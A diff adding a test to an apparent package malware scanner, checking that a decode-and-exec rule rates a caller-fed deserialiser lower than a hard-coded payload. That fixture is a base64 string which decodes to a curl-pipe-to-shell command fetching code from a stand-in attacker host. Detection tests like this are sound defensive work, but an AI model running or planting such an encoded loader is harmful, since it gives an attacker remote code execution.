@@ -112,3 +112,22 @@ def test_decoding_inside_a_local_helper_is_followed() -> None:
     findings = run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
     assert ids(findings) == {"PV-EXE-001"}
     assert findings[0].severity is Severity.CRITICAL
+
+
+def test_decoding_what_the_caller_hands_in_is_a_deserialiser() -> None:
+    loader = py(
+        "import codecs, marshal, types\n"
+        "def func_load(code, globs):\n"
+        "    raw = codecs.decode(code.encode('ascii'), 'base64')\n"
+        "    return types.FunctionType(marshal.loads(raw), globs)\n"
+    )
+    found = [f for f in run(RULES, loader) if f.rule == "PV-EXE-001"]
+    assert [f.severity for f in found] == [Severity.MEDIUM]
+    own = py(
+        "import base64\n"
+        "def go():\n"
+        "    exec(base64.b64decode(\n"
+        "        'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cHM6Ly9ldmlsLmV4YW1wbGUveCB8IHNoIik='\n"
+        "    ))\n"
+    )
+    assert [f.severity for f in run(RULES, own) if f.rule == "PV-EXE-001"] == [Severity.HIGH]
